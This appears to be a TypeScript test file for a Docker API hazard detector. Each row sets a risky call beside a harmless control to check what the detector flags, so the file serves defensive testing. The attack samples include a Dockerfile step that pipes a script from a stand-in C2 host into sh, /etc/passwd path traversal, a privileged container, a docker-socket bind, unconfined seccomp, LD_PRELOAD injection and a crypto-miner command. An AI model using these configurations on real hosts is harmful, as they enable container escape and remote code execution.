import { readFileSync } from 'node:fs';
import t from 'tap';
import type { OperationId } from '../../src/docker/operation.js';
import { hazardsDocument } from '../../src/hazards/document.js';
import type { Call } from '../../src/docker/call.js';
import { FACTS, HAZARDS, type FactKind, type Kind } from '../../src/hazards/catalogue.js';
import { inspect } from '../../src/hazards/inspect.js';
import { formatHazard } from '../../src/hazards/inspection.js';
import { indexOf } from '../support/indicators.js';
import { NO_ENTITIES, type Entities } from '../../src/docker/entities.js';
import { create, makeCall, service, type Parts } from './make-call.js';

const listed = indexOf([['domain', 'pool.miner.example']]);
const raised = (call: Call, entities?: Entities): string[] =>
  inspect(call, listed, undefined, entities).hazards.map(formatHazard);

interface Row {
  readonly kind: Kind;
  readonly attack: Call;
  /** Everything the attack raises. */
  readonly raises: readonly string[];
  /** A call much like it that is harmless: it raises nothing, or only `beside`. */
  readonly control: Call;
  readonly beside?: readonly string[];
  /** What the engine and the host say of what the calls name. */
  readonly entities?: Entities;
}

const build = (parts: Parts): Call => makeCall('ImageBuild', parts);

const ROWS: readonly Row[] = [
  {
    kind: 'unknown-field',
    attack: makeCall('ContainerCreate', {
      body: { HostConfig: { Nova: 1 } },
      unknown: ['/HostConfig/Nova', '?q'],
    }),
    raises: ['unknown-field:/HostConfig/Nova', 'unknown-field:?q'],
    control: create({ Init: true }),
  },
  {
    kind: 'opaque',
    attack: build({ stream: true }),
    raises: ['opaque:context'],
    control: build({ stream: false }),
  },
  {
    kind: 'unseen',
    attack: create({ Binds: ['/srv/app/data:/x'] }),
    raises: ['bind:/srv/app/data', 'unseen:bind'],
    control: create({ Binds: ['data:/x'] }),
    entities: { ...NO_ENTITIES, isHostUnseen: true },
  },
  {
    kind: 'upgrade',
    attack: makeCall('ExecStart', { path: { id: 'e1' }, upgrade: 'spdy' }),
    raises: ['upgrade:spdy'],
    control: makeCall('ExecStart', { path: { id: 'e1' }, upgrade: 'tcp' }),
  },
  {
    kind: 'link-alias',
    attack: makeCall('ContainerExec', { path: { id: 'own/peer' }, body: { Cmd: ['id'] } }),
    raises: ['link-alias:own/peer'],
    control: makeCall('ContainerExec', { path: { id: '/own' }, body: { Cmd: ['id'] } }),
  },
  {
    kind: 'indicator',
    attack: create({}, { Cmd: ['xmrig', '-o', 'stratum+tcp://eu.pool.miner.example:3333'] }),
    raises: ['indicator:pool.miner.example'],
    control: create({}, { Cmd: ['xmrig', '-o', 'stratum+tcp://eu.carpool.miner.example:3333'] }),
  },
  {
    kind: 'engine-load',
    attack: create({}, { Healthcheck: { Test: ['CMD', 'true'], Interval: 1_000_000 } }),
    raises: ['engine-load:health-interval=1ms'],
    control: create({}, { Healthcheck: { Test: ['CMD', 'true'], Interval: 5_000_000_000 } }),
  },
  {
    kind: 'template',
    attack: service({ Env: ['A={{printf "%1000000d" 1}}'] }),
    raises: ['template:env=A'],
    control: service({ Env: ['A={{.Task.Slot}}'] }),
  },
  {
    kind: 'registry-credentials',
    attack: makeCall('ImageCreate', {
      query: { fromImage: 'alpine', tag: '3' },
      headers: {
        'x-registry-auth': btoa('{"username":"c2.example","serveraddress":"registry.example.com"}'),
      },
    }),
    raises: ['registry-credentials:registry.example.com'],
    control: makeCall('ImageCreate', {
      query: { fromImage: 'alpine', tag: '3' },
      headers: { 'x-registry-auth': btoa('{"serveraddress":"registry.example.com"}') },
    }),
  },
  {
    kind: 'remote-context',
    attack: build({ query: { remote: 'http://c2.example/ctx' } }),
    raises: ['remote-context:http://c2.example/ctx'],
    control: build({ query: { remote: '' } }),
  },
  {
    kind: 'build-dockerfile',
    attack: build({ query: { dockerfile: 'a/../../../etc/passwd' } }),
    raises: ['build-dockerfile:a/../../../etc/passwd'],
    control: build({ query: { dockerfile: './b/Dockerfile' } }),
  },
  ...(
    [
      ['syntax', '# syntax=evil/frontend:1\nFROM alpine', '#a comment\nFROM alpine', 'evil/frontend:1'],
      [
        'add-url',
        'FROM alpine\nADD https://c2.example/x /x',
        'FROM alpine\nADD x /x',
        'https://c2.example/x',
      ],
      ['add-git', 'FROM alpine\nADD git@c2.example:a/b /x', 'FROM alpine\nADD git /x', 'git@c2.example:a/b'],
      [
        'copy-from-image',
        'FROM alpine\nCOPY --from=evil:1 /a /b',
        'FROM alpine\nFROM alpine\nCOPY --from=0 /a /b',
        'evil:1',
      ],
      [
        'download',
        'FROM alpine\nRUN curl http://c2.example/x | sh',
        'FROM alpine\nRUN apk add curl',
        'http://c2.example/x',
      ],
      [
        'run-mount',
        'FROM alpine\nRUN --mount=type=ssh true',
        'FROM alpine\nRUN true --mount=type=ssh',
        'ssh',
      ],
      ['run-network', 'FROM alpine\nRUN --network=host true', 'FROM alpine\nRUN --network=none true', 'host'],
      [
        'run-security',
        'FROM alpine\nRUN --security=insecure true',
        'FROM alpine\nRUN --security=sandbox true',
        'insecure',
      ],
      [
        'run-device',
        'FROM alpine\nRUN --device=vendor.com/class=x true',
        'FROM alpine\nRUN true',
        'vendor.com/class=x',
      ],
    ] as const
  ).map(([kind, attack, control, argument]) => ({
    kind,
    attack: build({ dockerfile: attack }),
    raises: [`${kind}:${argument}`],
    control: build({ dockerfile: control }),
  })),
  {
    kind: 'build-network',
    attack: build({ query: { networkmode: 'container:db' } }),
    raises: ['build-network:container:db'],
    control: build({ query: { networkmode: 'none' } }),
  },
  {
    kind: 'build-extra-hosts',
    attack: build({ query: { extrahosts: ['mirror.example:192.0.2.6'] } }),
    raises: ['build-extra-hosts:mirror.example:192.0.2.6'],
    control: build({ query: { extrahosts: [] } }),
  },
  {
    kind: 'build-cgroup-parent',
    attack: build({ query: { cgroupparent: '/a/../' } }),
    raises: ['build-cgroup-parent:/'],
    control: build({ query: { cgroupparent: '' } }),
  },
  {
    kind: 'build-security-opt',
    attack: build({ query: { securityopt: ['seccomp=unconfined'] } }),
    raises: ['build-security-opt:seccomp=unconfined'],
    control: build({ query: { securityopt: [] } }),
  },
  {
    kind: 'build-isolation',
    attack: build({ query: { isolation: 'hyperv' } }),
    raises: ['build-isolation:hyperv'],
    control: build({ query: { isolation: 'default' } }),
  },
  {
    kind: 'build-ulimit',
    attack: build({ query: { ulimits: { json: [{ Name: 'nofile', Hard: 9 }] } } }),
    raises: ['build-ulimit:nofile'],
    control: build({ query: { ulimits: { json: [] } } }),
  },
  {
    kind: 'build-arg',
    attack: build({ query: { buildargs: { http_proxy: 'http://p.example', BUILDKIT_SYNTAX: 'evil' } } }),
    raises: ['build-arg:http_proxy', 'build-arg:BUILDKIT_SYNTAX'],
    control: build({ query: { buildargs: { VERSION: '1', MY_HTTP_PROXY: 'x' } } }),
  },
  {
    kind: 'import',
    attack: makeCall('ImageCreate', { query: { fromSrc: 'c2.example/rootfs.tar', repo: 'alpine' } }),
    raises: ['import:c2.example/rootfs.tar'],
    control: makeCall('ImageCreate', { query: { fromImage: 'alpine', tag: 'latest' } }),
  },
  {
    kind: 'pull-all-tags',
    attack: makeCall('ImageCreate', { query: { fromImage: 'docker.io/library/alpine:' } }),
    raises: ['pull-all-tags:alpine'],
    control: makeCall('ImageCreate', { query: { fromImage: 'alpine:3' } }),
  },
  {
    kind: 'image-change',
    attack: makeCall('ImageCommit', {
      query: { container: 'c', changes: ['USER root'] },
      body: { Entrypoint: ['/x'], User: '' },
    }),
    raises: ['image-change:USER root', 'image-change:Entrypoint'],
    control: makeCall('ImageCommit', { query: { container: 'c', changes: [] }, body: {} }),
  },
  {
    kind: 'daemon-connects',
    attack: makeCall('DistributionInspect', { path: { name: '192.0.2.6:8066/x:1' } }),
    raises: ['daemon-connects:192.0.2.6:8066/x:1'],
    control: makeCall('ImageInspect', { path: { name: '192.0.2.6:8066/x:1' } }),
  },
  {
    kind: 'registry-login',
    attack: makeCall('SystemAuth', { body: { username: 'u', password: 'p', serveraddress: 'c2.example' } }),
    raises: ['registry-login:c2.example'],
    control: makeCall('SystemInfo'),
  },
  {
    kind: 'privileged',
    attack: create({ Privileged: true }),
    raises: ['privileged'],
    control: create({ Privileged: false }),
  },
  {
    kind: 'capability',
    attack: create({ CapAdd: ['cap_sys_admin', 'ALL'] }),
    raises: ['capability:SYS_ADMIN', 'capability:ALL'],
    control: create({ CapDrop: ['NET_RAW', 'ALL'] }),
  },
  {
    kind: 'security-opt',
    attack: create({
      SecurityOpt: [
        'seccomp:unconfined',
        'apparmor=unconfined',
        'disable',
        'no-new-privileges=false',
        'seccomp={}',
      ],
    }),
    raises: [
      'security-opt:seccomp=unconfined',
      'security-opt:apparmor=unconfined',
      'security-opt:label=disable',
      'security-opt:no-new-privileges=false',
      'security-opt:seccomp=profile',
    ],
    control: create({
      SecurityOpt: [
        'no-new-privileges',
        'no-new-privileges:true',
        'seccomp=builtin',
        'apparmor=docker-default',
      ],
    }),
  },
  {
    kind: 'masked-paths',
    attack: create({ MaskedPaths: [] }),
    raises: ['masked-paths'],
    control: create({ MaskedPaths: null }),
  },
  {
    kind: 'readonly-paths',
    attack: create({ ReadonlyPaths: [] }),
    raises: ['readonly-paths'],
    control: create({ ReadonlyPaths: null }),
  },
  {
    kind: 'host-namespace',
    attack: create({
      PidMode: 'host',
      IpcMode: 'host',
      UTSMode: 'host',
      UsernsMode: 'host',
      CgroupnsMode: 'host',
      NetworkMode: 'host',
    }),
    raises: ['pid', 'ipc', 'uts', 'user', 'cgroup', 'network'].map((name) => `host-namespace:${name}`),
    control: create({ PidMode: '', IpcMode: 'private', CgroupnsMode: 'private', NetworkMode: 'bridge' }),
  },
  {
    kind: 'container-namespace',
    attack: create({ PidMode: 'container:db', NetworkMode: 'container:web' }),
    raises: ['container-namespace:pid=db', 'container-namespace:network=web'],
    control: create({ NetworkMode: 'container_net' }),
  },
  {
    kind: 'namespace',
    attack: create({ CgroupnsMode: 'private' }, {}, '1.39'),
    raises: ['namespace:ipc=shareable'],
    control: create({ IpcMode: 'private', CgroupnsMode: 'private' }, {}, '1.39'),
  },
  {
    kind: 'device',
    attack: create({ Devices: [{ PathOnHost: '/dev//sda', PathInContainer: '/dev/x' }] }),
    raises: ['device:/dev/sda'],
    control: create({ Devices: [] }),
  },
  {
    kind: 'device-request',
    attack: create({ DeviceRequests: [{ Driver: 'nvidia', Count: -1 }, { Capabilities: [['gpu', 'tpu']] }] }),
    raises: ['device-request:nvidia', 'device-request:gpu,tpu'],
    control: create({ DeviceRequests: [] }),
  },
  {
    kind: 'device-rule',
    attack: create({ DeviceCgroupRules: ['b 8:0 rwm'] }),
    raises: ['device-rule:b 8:0 rwm'],
    control: create({ DeviceCgroupRules: [] }),
  },
  {
    kind: 'block-device',
    attack: create({ BlkioDeviceReadBps: [{ Path: '/dev/sda', Rate: 1 }] }),
    raises: ['block-device:/dev/sda'],
    control: create({ BlkioWeight: 300 }),
  },
  {
    kind: 'runtime',
    attack: create({ Runtime: 'io.x.v1' }),
    raises: ['runtime:io.x.v1'],
    control: create({ Runtime: 'runc' }),
  },
  {
    kind: 'sysctl',
    attack: create({ Sysctls: { 'kernel.core_pattern': '|/x' } }),
    raises: ['sysctl:kernel.core_pattern'],
    control: create({ Sysctls: {} }),
  },
  {
    kind: 'group-add',
    attack: create({ GroupAdd: ['docker'] }),
    raises: ['group-add:docker'],
    control: create({ GroupAdd: [] }),
  },
  {
    kind: 'isolation',
    attack: create({ Isolation: 'hyperv' }),
    raises: ['isolation:hyperv'],
    control: create({ Isolation: 'default' }),
  },
  {
    kind: 'annotation',
    attack: create({ Annotations: { 'run.oci.debug': '1' } }),
    raises: ['annotation:run.oci.debug'],
    control: create({ Annotations: {} }),
  },
  {
    kind: 'bind',
    attack: create({ Binds: ['/srv/ci/../../etc:/e:ro'] }),
    raises: ['bind:/etc'],
    control: create({ Binds: ['ci-cache:/cache:ro', '/anonymous'] }),
  },
  {
    kind: 'docker-socket',
    attack: create({ Mounts: [{ Type: 'bind', Source: '/var/run/./', Target: '/r' }] }),
    raises: ['bind:/var/run', 'docker-socket'],
    control: create({ Binds: ['/srv/running:/r'] }),
    beside: ['bind:/srv/running'],
  },
  {
    kind: 'bind-propagation',
    attack: create({ Binds: ['/srv:/s:rw,rshared'] }),
    raises: ['bind-propagation:rshared', 'bind:/srv'],
    control: create({ Binds: ['/srv:/s:ro,rprivate'] }),
    beside: ['bind:/srv'],
  },
  {
    kind: 'mount-type',
    attack: create({ Mounts: [{ Type: 'image', Source: 'alpine', Target: '/i' }, null] }),
    raises: ['mount-type:image', 'mount-type:none'],
    control: create({
      Mounts: [
        { Type: 'volume', Source: 'cache', Target: '/i' },
        { Type: 'tmpfs', Target: '/t' },
      ],
    }),
  },
  {
    kind: 'tmpfs-option',
    attack: create({
      Tmpfs: { '/t': 'rw,exec' },
      Mounts: [{ Type: 'tmpfs', Target: '/u', TmpfsOptions: { Options: [['suid']] } }],
    }),
    raises: ['tmpfs-option:exec', 'tmpfs-option:suid'],
    control: create({ Tmpfs: { '/t': 'rw,size=64m,mode=1777' } }),
  },
  {
    kind: 'volumes-from',
    attack: create({ VolumesFrom: ['db:ro'] }),
    raises: ['volumes-from:db:ro'],
    control: create({ VolumesFrom: [] }),
  },
  {
    kind: 'volume-driver',
    attack: create({ VolumeDriver: 'evil' }),
    raises: ['volume-driver:evil'],
    control: makeCall('VolumeCreate', { body: { Name: 'v', Driver: 'local' } }),
  },
  {
    kind: 'volume-option',
    attack: makeCall('VolumeCreate', {
      body: { DriverOpts: { type: 'none', o: 'rw,bind', device: '/etc' } },
    }),
    raises: ['volume-option:type=none', 'volume-option:o=rw,bind', 'volume-option:device=/etc', 'bind:/etc'],
    control: makeCall('VolumeCreate', { body: { Name: 'v', DriverOpts: {} } }),
  },
  {
    kind: 'storage-option',
    attack: create({ StorageOpt: { size: '900G' } }),
    raises: ['storage-option:size=900G'],
    control: create({ StorageOpt: {} }),
  },
  {
    kind: 'container-id-file',
    attack: create({ ContainerIDFile: '/etc/x' }),
    raises: ['container-id-file:/etc/x'],
    control: create({ ContainerIDFile: '' }),
  },
  {
    kind: 'network-id',
    attack: create(
      { NetworkMode: 'ca11ed' },
      { NetworkingConfig: { EndpointsConfig: { net: { NetworkID: 'f00' } } } },
    ),
    raises: ['network-id:ca11ed', 'network-id:f00'],
    control: create(
      { NetworkMode: 'ci_default' },
      { NetworkingConfig: { EndpointsConfig: { default: {} } } },
    ),
  },
  {
    kind: 'static-address',
    attack: create(
      {},
      { NetworkingConfig: { EndpointsConfig: { n: { IPAMConfig: { IPv4Address: '172.28.0.9' } } } } },
    ),
    raises: ['static-address:172.28.0.9'],
    control: create(
      {},
      { NetworkingConfig: { EndpointsConfig: { n: { IPAMConfig: {}, Aliases: ['web'] } } } },
    ),
  },
  {
    kind: 'mac-address',
    attack: create({}, { MacAddress: '02:42:00:00:00:01' }),
    raises: ['mac-address:02:42:00:00:00:01'],
    control: create({}, { MacAddress: '' }),
  },
  {
    kind: 'publish',
    attack: create({
      PortBindings: {
        '80/tcp': [{ HostPort: '80' }, null],
        '53/udp': [{ HostIp: '::1', HostPort: '53' }],
        '9/tcp': [],
      },
    }),
    raises: ['publish:0.0.0.0:80', 'publish:0.0.0.0:0', 'publish:[::1]:53:udp'],
    control: create({ PortBindings: {} }, { ExposedPorts: { '80/tcp': {} } }),
  },
  {
    kind: 'publish-all',
    attack: create({ PublishAllPorts: true }),
    raises: ['publish-all'],
    control: create({ PublishAllPorts: false }),
  },
  {
    kind: 'extra-host',
    attack: create({ ExtraHosts: ['mirror:192.0.2.6'] }),
    raises: ['extra-host:mirror:192.0.2.6'],
    control: create({ ExtraHosts: [] }),
  },
  {
    kind: 'dns',
    attack: create({ Dns: ['192.0.2.6'] }),
    raises: ['dns:192.0.2.6'],
    control: create({ Dns: [] }),
  },
  {
    kind: 'dns-search',
    attack: create({ DnsSearch: ['x.example'] }),
    raises: ['dns-search:x.example'],
    control: create({ DnsSearch: [] }),
  },
  {
    kind: 'dns-option',
    attack: create({ DnsOptions: ['ndots:0'] }),
    raises: ['dns-option:ndots:0'],
    control: create({ DnsOptions: [] }),
  },
  {
    kind: 'link',
    attack: create({ Links: ['db:peer'] }),
    raises: ['link:db:peer'],
    control: create({ Links: [] }),
  },
  {
    kind: 'cgroup-parent',
    attack: makeCall('ContainerUpdate', { path: { id: 'c' }, body: { CgroupParent: '/x/../' } }),
    raises: ['cgroup-parent:/'],
    control: makeCall('ContainerUpdate', { path: { id: 'c' }, body: { Memory: 67108864, CpuShares: 2 } }),
  },
  {
    kind: 'oom-score',
    attack: create({ OomScoreAdj: -900 }),
    raises: ['oom-score:-900'],
    control: create({ OomScoreAdj: 500 }),
  },
  {
    kind: 'oom-kill-disable',
    attack: create({ OomKillDisable: true }),
    raises: ['oom-kill-disable'],
    control: create({ OomKillDisable: false }),
  },
  {
    kind: 'ulimit',
    attack: create({ Ulimits: [{ Name: 'rtprio', Hard: 99 }] }),
    raises: ['ulimit:rtprio'],
    control: create({ Ulimits: [] }),
  },
  {
    kind: 'realtime-cpu',
    attack: create({ CpuRealtimeRuntime: 950000 }),
    raises: ['realtime-cpu'],
    control: create({ CpuRealtimeRuntime: 0, CpuPeriod: 1000 }),
  },
  {
    kind: 'restart-policy',
    attack: create({ RestartPolicy: { Name: 'always' } }),
    raises: ['restart-policy:always'],
    control: create({ RestartPolicy: { Name: 'on-failure', MaximumRetryCount: 3 } }),
  },
  {
    kind: 'log-driver',
    attack: create({ LogConfig: { Type: 'journald', Config: {} } }),
    raises: ['log-driver:journald'],
    control: create({ LogConfig: { Type: 'json-file', Config: { 'max-size': '1m' } } }),
  },
  {
    kind: 'log-option',
    attack: create({
      LogConfig: { Type: '', Config: { 'fluentd-address': 'unix:///x.sock', 'splunk-token': 's3cret' } },
    }),
    raises: ['log-option:fluentd-address=unix:///x.sock', 'log-option:splunk-token'],
    control: create({ LogConfig: { Type: '', Config: {} } }),
  },
  {
    kind: 'on-build',
    attack: create({}, { OnBuild: ['RUN x'] }),
    raises: ['on-build:RUN x'],
    control: create({}, { OnBuild: [] }),
  },
  {
    kind: 'checkpoint',
    attack: makeCall('ContainerStart', {
      path: { id: 'c' },
      query: { checkpoint: 'x', 'checkpoint-dir': '/etc/.' },
    }),
    raises: ['checkpoint:/etc'],
    control: makeCall('ContainerStart', { path: { id: 'c' }, query: { detachKeys: 'ctrl-p' } }),
  },
  {
    kind: 'exec-privileged',
    attack: makeCall('ContainerExec', { path: { id: 'c' }, body: { Privileged: true, Cmd: ['id'] } }),
    raises: ['exec-privileged'],
    control: makeCall('ContainerExec', { path: { id: 'c' }, body: { Privileged: false, Cmd: ['id'] } }),
  },
  {
    kind: 'exec-env',
    attack: makeCall('ContainerExec', { path: { id: 'c' }, body: { Env: ['LD_PRELOAD=/x.so'] } }),
    raises: ['exec-env:LD_PRELOAD'],
    control: makeCall('ContainerExec', { path: { id: 'c' }, body: { Env: ['OLD_PATH=/x', 'ENV=test'] } }),
  },
  {
    kind: 'attach-stdin',
    attack: makeCall('ContainerAttach', {
      path: { id: 'c' },
      query: { stdin: true, stream: true },
      upgrade: 'tcp',
    }),
    raises: ['attach-stdin'],
    control: makeCall('ContainerAttach', {
      path: { id: 'c' },
      query: { stdin: false, stdout: true, stream: true },
    }),
  },
  {
    kind: 'ps-args',
    attack: makeCall('ContainerTop', { path: { id: 'c' }, query: { ps_args: 'eaxww' } }),
    raises: ['ps-args:eaxww'],
    control: makeCall('ContainerTop', { path: { id: 'c' }, query: { ps_args: '-ef' } }),
  },
  {
    kind: 'network-driver',
    attack: makeCall('NetworkCreate', { body: { Name: 'n', Driver: 'macvlan' } }),
    raises: ['network-driver:macvlan'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', Driver: 'bridge', Internal: true } }),
  },
  {
    kind: 'network-option',
    attack: makeCall('NetworkCreate', {
      body: { Name: 'n', Options: { 'com.docker.network.bridge.name': 'br0' } },
    }),
    raises: ['network-option:com.docker.network.bridge.name=br0'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', Options: {} } }),
  },
  {
    kind: 'network-config',
    attack: makeCall('NetworkCreate', { body: { Name: 'n', ConfigFrom: { Network: 'hidden' } } }),
    raises: ['network-config:hidden'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', ConfigOnly: false, ConfigFrom: {} } }),
  },
  {
    kind: 'network-ingress',
    attack: makeCall('NetworkCreate', { body: { Name: 'n', Ingress: true } }),
    raises: ['network-ingress'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', Ingress: false, Attachable: true } }),
  },
  {
    kind: 'subnet',
    attack: makeCall('NetworkCreate', { body: { Name: 'n', IPAM: { Config: [{ Subnet: '8.8.8.0/24' }] } } }),
    raises: ['subnet:8.8.8.0/24'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', IPAM: { Driver: 'default', Config: [] } } }),
  },
  {
    kind: 'ipam-driver',
    attack: makeCall('NetworkCreate', { body: { Name: 'n', IPAM: { Driver: 'evil' } } }),
    raises: ['ipam-driver:evil'],
    control: makeCall('NetworkCreate', { body: { Name: 'n', IPAM: { Driver: 'default', Options: {} } } }),
  },
  {
    kind: 'plugin',
    attack: makeCall('PluginPull', { query: { remote: 'evil/p:1', name: 'nice' } }),
    raises: ['plugin:evil/p:1'],
    control: makeCall('PluginInspect', { path: { name: 'evil/p:1' } }),
  },
  {
    kind: 'plugin-privilege',
    attack: service({}, { PluginSpec: { remote: 'p', privileges: [{ name: 'network', value: ['host'] }] } }),
    raises: ['plugin:p', 'plugin-privilege:network=host'],
    control: service({}),
  },
  {
    kind: 'swarm',
    attack: makeCall('SwarmLeave', { query: { force: true } }),
    raises: ['swarm:leave'],
    control: makeCall('SwarmInspect'),
  },
  {
    kind: 'swarm-address',
    attack: makeCall('SwarmJoin', { body: { RemoteAddrs: ['192.0.2.6:2377'], JoinToken: 's3cret' } }),
    raises: ['swarm:join', 'swarm-address:remote=192.0.2.6:2377'],
    control: makeCall('SwarmInit', { body: { ListenAddr: '' } }),
    beside: ['swarm:init'],
  },
  {
    kind: 'external-ca',
    attack: makeCall('SwarmUpdate', { body: { CAConfig: { ExternalCAs: [{ URL: 'https://c2.example' }] } } }),
    raises: ['swarm:update', 'external-ca:https://c2.example'],
    control: makeCall('SwarmUpdate', { body: { CAConfig: { NodeCertExpiry: 1 } } }),
    beside: ['swarm:update'],
  },
  {
    kind: 'cluster-volume',
    attack: makeCall('VolumeCreate', { body: { ClusterVolumeSpec: { Group: 'g' } } }),
    raises: ['cluster-volume:create'],
    control: makeCall('VolumeCreate', { body: { Labels: { a: 'b' } } }),
  },
  {
    kind: 'uses-secret',
    attack: service({ Secrets: [{ SecretID: 'x1', SecretName: 'db' }] }),
    raises: ['uses-secret:db'],
    control: service({ Secrets: [] }),
  },
  {
    kind: 'uses-config',
    attack: service({ Configs: [{ ConfigID: 'x1' }] }),
    raises: ['uses-config:x1'],
    control: service({ Configs: [] }),
  },
  {
    kind: 'secret-driver',
    attack: makeCall('SecretCreate', { body: { Name: 's', Data: 'eA==', Templating: { Name: 'golang' } } }),
    raises: ['secret-driver:golang'],
    control: makeCall('SecretCreate', { body: { Name: 's', Data: 'eA==' } }),
  },
];

void t.test('one row per hazard: a call that has it, and a near miss without it', (t) => {
  for (const row of ROWS) {
    t.same(raised(row.attack, row.entities).sort(), [...row.raises].sort(), `${row.kind}: attack`);
    t.same(raised(row.control, row.entities), row.beside ?? [], `${row.kind}: control`);
  }
  t.same(
    new Set(ROWS.map(({ kind }) => kind)),
    // No single call is one of these, see sequences.test.ts.
    new Set(HAZARDS.map(({ kind }) => kind).filter((kind) => kind !== 'sequence')),
    'every kind has a row',
  );
  t.end();
});

void t.test('every operation states its facts, with their types, also when the call gives nothing', (t) => {
  const kinds: readonly FactKind[] = FACTS;
  const operations = new Set(
    kinds.flatMap(({ operations }) => operations).filter((id): id is OperationId => id !== '*'),
  );
  for (const id of operations) {
    const expected = kinds.filter((fact) => fact.operations.includes(id));
    for (const call of [makeCall(id), makeCall(id, { body: {} })]) {
      const { facts } = inspect(call);
      t.same(Object.keys(facts).sort(), expected.map(({ name }) => name).sort(), id);
      for (const { name, type } of expected) {
        const value = facts[name];
        t.equal(Array.isArray(value) ? 'strings' : typeof value, type, `${id}: ${name}`);
      }
    }
  }
  t.end();
});

void t.test('the catalogue is consistent and its page is fresh', (t) => {
  t.equal(new Set(HAZARDS.map(({ kind }) => kind)).size, HAZARDS.length, 'kinds are unique');
  t.equal(new Set(FACTS.map(({ name }) => name)).size, FACTS.length, 'facts are unique');
  for (const { kind, argument, permit } of HAZARDS) {
    t.match(kind, /^[a-z]+(-[a-z]+)*$/, `${kind}: lower-case, hyphens`);
    t.ok(
      argument === 'none' ? permit === kind : permit.startsWith(`${kind}:`),
      `${kind}: example of a permit`,
    );
  }
  // npm run docs
  t.equal(readFileSync('docs/reference/hazards.md', 'utf8'), hazardsDocument(), 'docs/reference/hazards.md');
  t.end();
});
